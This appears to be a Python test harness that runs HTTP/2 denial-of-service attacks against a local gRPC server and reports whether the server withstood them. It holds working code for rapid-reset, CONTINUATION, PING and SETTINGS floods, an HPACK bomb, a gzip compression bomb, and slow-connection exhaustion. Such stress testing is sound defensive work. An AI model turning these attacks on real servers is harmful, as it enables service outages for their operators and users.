"""
python attack.py NAME --port P [--path /SERVICE/METHOD] [--seconds S] [--repeat]

Attacks a server of gRPC on 127.0.0.1 for at most S seconds and prints as JSON what came of it: how much was sent, and whether
the server ended the connection (`goaway`, `closed`), refused (`resets`, `status`) or bore it (`survived`). The exit code is 0
unless the attack itself could not be made. With --repeat it begins anew, over new connections, until the time is over; the outcome is the
first one's, and `rounds` says how many there were.
"""

import argparse
import gzip
import json
import select
import socket
import struct
import sys
import time
import zlib

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from forge import Connection, Ended

MIB = 1 << 20
# GetItemRequest { id: 1 }
MESSAGE = b"\x08\x01"


class Attack:
    def __init__(self, options):
        self.options = options
        self.until = time.monotonic() + options.seconds
        self.connections = []

    def connect(self, **more):
        connection = Connection("127.0.0.1", self.options.port, self.options.path, **more)
        self.connections.append(connection)
        return connection

    def going(self):
        return time.monotonic() < self.until

    # ---- floods: each sends until the server ends the connection or the time is over ----

    def flood(self, connection, frames):
        """Sends batches of frames; the answers of the server are read meanwhile."""
        try:
            while self.going():
                connection.send(*frames())
        except Ended as ended:
            return {"ended": str(ended)}
        return {"survived": True}

    def rapid_reset(self):
        connection = self.connect()
        stream = 1

        def frames():
            nonlocal stream
            batch = []
            for _ in range(50):
                batch += [connection.headers_frame(stream), RstStreamFrame(stream, error_code=8)]
                stream += 2
            return batch

        return self.flood(connection, frames)

    def continuation_flood(self):
        connection = self.connect()
        head = HeadersFrame(1, data=connection.encoder.encode(connection.request_headers()))
        connection.send(head)
        # A literal that is not indexed, with a name and a value of 4 KiB, four times.
        field = b"\x00" + b"\x7f\x81\x1f" + b"a" * 4096 + b"\x7f\x81\x1f" + b"b" * 4096
        return self.flood(connection, lambda: [ContinuationFrame(1, data=field)])

    def empty_continuation_flood(self):
        connection = self.connect()
        connection.send(HeadersFrame(1, data=connection.encoder.encode(connection.request_headers())))
        return self.flood(connection, lambda: [ContinuationFrame(1, data=b"")] * 200)

    def ping_flood(self):
        connection = self.connect()
        return self.flood(connection, lambda: [PingFrame(0, opaque_data=b"attacker")] * 200)

    def settings_flood(self):
        connection = self.connect()
        return self.flood(connection, lambda: [SettingsFrame(0, settings={4: 65535})] * 200)

    def empty_data_flood(self):
        connection = self.connect()
        connection.send(connection.headers_frame(1))
        return self.flood(connection, lambda: [DataFrame(1, data=b"")] * 200)

    def unread_ping_flood(self):
        """The same by a peer that does not read the answers: they must not pile up."""
        connection = self.connect(reads=False)
        return self.flood(connection, lambda: [PingFrame(0, opaque_data=b"attacker")] * 200)

    def unread_settings_flood(self):
        connection = self.connect(reads=False)
        return self.flood(connection, lambda: [SettingsFrame(0, settings={4: 65535})] * 200)

    # ---- bombs: a little that becomes much ----

    def hpack_bomb(self):
        connection = self.connect()
        # One entry that nearly fills the dynamic table, then as many references to it as a header block of 16 KiB holds.
        connection.send(connection.headers_frame(1, [("bomb", "x" * 3400)], end=True))
        block = connection.encoder.encode(connection.request_headers())
        try:
            for stream in range(3, 203, 2):
                # 62: the newest entry of the dynamic table; the encoder has put nothing else there since.
                frame = HeadersFrame(stream, data=block + b"\xbe" * (16384 - len(block)))
                frame.flags |= {"END_HEADERS", "END_STREAM"}
                connection.send(frame)
                if not self.going():
                    break
            connection.wait(lambda: 201 in connection.headers or 201 in connection.resets, 3)
        except Ended as ended:
            return {"ended": str(ended)}
        return {"survived": True, "statuses": statuses(connection)}

    def compression_bomb(self):
        """64 MiB of zeros, which gzip makes 64 KiB of; as a field that the server would skip."""
        connection = self.connect()
        zeros = b"\x7a" + varint(64 * MIB) + b"\0" * (64 * MIB)
        packed = gzip.compress(zeros, 9)
        count = 0
        try:
            for stream in range(1, 41, 2):
                connection.send(connection.headers_frame(stream, [("grpc-encoding", "gzip")]))
                connection.body(stream, [struct.pack(">BI", 1, len(packed)) + packed])
                end = DataFrame(stream, data=b"")
                end.flags.add("END_STREAM")
                if stream not in connection.resets and stream not in connection.headers_end():
                    connection.send(end)
                connection.wait(lambda: stream in connection.headers_end() or stream in connection.resets, 10)
                count += 1
                if not self.going():
                    break
        except Ended as ended:
            return {"ended": str(ended), "bombs": count}
        return {"survived": True, "bombs": count, "packed": len(packed), "statuses": statuses(connection)}

    # ---- messages ----

    def large_message(self):
        """One message of 100 MiB, sent as the windows allow."""
        connection = self.connect()
        try:
            connection.send(connection.headers_frame(1))
            size = 100 * MIB
            chunk = b"\0" * 65536
            chunks = [struct.pack(">BI", 0, size)] + [chunk] * (size // len(chunk))
            sent, why = connection.body(1, chunks, 3)
            connection.wait(lambda: 1 in connection.headers_end(), 3)
        except Ended as ended:
            return {"ended": str(ended)}
        return {"survived": True, "body": sent, "why": why, "statuses": statuses(connection)}

    def announced_message(self):
        """Lengths of 4 GiB and nothing behind them, on many streams: what is announced must not be reserved."""
        connection = self.connect()
        try:
            for stream in range(1, 199, 2):
                connection.send(connection.headers_frame(stream))
                connection.body(stream, [struct.pack(">BI", 0, 0xFFFFFFFF)])
            time.sleep(1)
        except Ended as ended:
            return {"ended": str(ended)}
        return {"survived": True, "statuses": statuses(connection)}

    # ---- slowness: many connections that hold the server up ----

    def slow_reader(self):
        """Asks for streams, opens every window and reads nothing: the server must neither wait for ever nor keep what it makes."""
        open_window = {SettingsFrame.INITIAL_WINDOW_SIZE: 0x7FFFFFFF}
        for _ in range(20):
            connection = self.connect(reads=False, settings=open_window)
            connection.send(WindowUpdateFrame(0, window_increment=0x7FFF0000))
            for stream in range(1, 41, 2):
                connection.call(stream, MESSAGE)
        ended = 0
        while self.going() and ended < len(self.connections):
            time.sleep(0.2)
            ended = sum(is_closed(connection.socket) for connection in self.connections)
        return {"connections": len(self.connections), "endedByServer": ended}

    def late_reader(self):
        """No attack: reads nothing for a while, and then as fast as it can. The streams must go on."""
        connection = self.connect(reads=False, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0x7FFFFFFF})
        connection.send(WindowUpdateFrame(0, window_increment=0x7FFF0000))
        for stream in range(1, 41, 2):
            connection.call(stream, MESSAGE)
        time.sleep(0.6)
        read = 0
        connection.socket.settimeout(1)
        try:
            while self.going() and read < 64 * MIB:
                read += len(connection.socket.recv(MIB))
        except TimeoutError:
            pass
        return {"body": read}

    def slow_window(self):
        """Asks for streams with a window of nothing: HTTP/2's own way to read slowly."""
        for _ in range(20):
            connection = self.connect(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
            for stream in range(1, 101, 2):
                connection.call(stream, MESSAGE)
        while self.going():
            time.sleep(0.2)
        ended = sum(connection.closed is not None for connection in self.connections)
        return {"connections": len(self.connections), "endedByServer": ended}

    def slow_writer(self):
        """Sends a message byte by byte on many connections, and never comes to its end."""
        ended = 0
        try:
            for _ in range(50):
                connection = self.connect()
                connection.send(connection.headers_frame(1), DataFrame(1, data=struct.pack(">BI", 0, 1000)))
            while self.going() and ended < len(self.connections):
                for connection in self.connections:
                    if connection.closed is None and 1 not in connection.resets:
                        try:
                            connection.send(DataFrame(1, data=b"\0"))
                        except Ended:
                            pass
                time.sleep(0.1)
                # Their call, if not the connection.
                ended = sum(c.closed is not None or 1 in c.resets or 1 in c.headers_end() for c in self.connections)
        except Ended as failure:
            return {"ended": str(failure)}
        return {"connections": len(self.connections), "endedByServer": ended}

    def half_preface(self):
        """Connections that never say what they want."""
        sockets = [socket.create_connection(("127.0.0.1", self.options.port)) for _ in range(200)]
        for one in sockets:
            one.sendall(b"PRI * HTTP/2.0\r\n")
        ended = 0
        while self.going() and ended < len(sockets):
            time.sleep(0.2)
            ended = sum(map(is_closed, sockets))
        return {"connections": len(sockets), "endedByServer": ended}


def is_closed(one):
    """Whether the server has ended a connection that nobody reads."""
    poll = select.poll()
    poll.register(one, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
    return bool(poll.poll(0))


def statuses(connection):
    """How many streams ended how."""
    counts = {}
    for headers in connection.headers.values():
        key = f"grpc-status {headers['grpc-status']}" if "grpc-status" in headers else f"HTTP {headers.get(':status')}"
        counts[key] = counts.get(key, 0) + 1
    for code in connection.resets.values():
        counts[f"RST_STREAM {code}"] = counts.get(f"RST_STREAM {code}", 0) + 1
    return counts


def varint(value):
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def names():
    own = [name for name, value in vars(Attack).items() if callable(value) and not name.startswith("_")]
    return [name.replace("_", "-") for name in own if name not in ("connect", "going", "flood")]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=names())
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--path", default="/volo.example.ItemService/GetItem")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--repeat", action="store_true")
    options = parser.parse_args()
    attack = Attack(options)
    start = time.monotonic()
    method = options.name.replace("-", "_")
    outcome = getattr(attack, method)()
    outcome["rounds"] = 1
    while options.repeat and attack.going():
        again = Attack(options)
        again.until = attack.until
        getattr(again, method)()
        outcome["rounds"] += 1
    # What the server says last may be on its way.
    time.sleep(0.1)
    first = attack.connections[0] if attack.connections else None
    if first is not None:
        outcome |= {
            "goaway": first.goaway,
            "goawayText": first.goaway_text,
            "resets": len(first.resets),
            "closed": first.closed,
            "acks": first.acks,
        }
        outcome |= {
            "frames": sum(connection.frames for connection in attack.connections),
            "bytes": sum(connection.sent for connection in attack.connections),
        }
    outcome["seconds"] = round(time.monotonic() - start, 2)
    json.dump(outcome, sys.stdout)
    print()


main()
